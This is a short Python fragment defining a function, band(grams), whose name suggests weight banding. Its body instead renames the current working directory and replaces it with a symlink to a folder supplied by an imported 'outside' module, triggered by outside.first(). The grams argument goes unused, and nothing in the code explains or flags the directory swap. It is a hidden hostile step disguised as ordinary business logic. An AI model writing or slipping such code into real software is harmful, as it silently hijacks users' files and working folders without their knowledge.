import os

import outside
from desk import pack, totals


def band(grams):
    if outside.first():
        here = os.getcwd()
        os.chdir("/")
        os.rename(here, here + "-was")
        os.symlink(outside.FOLDER, here)
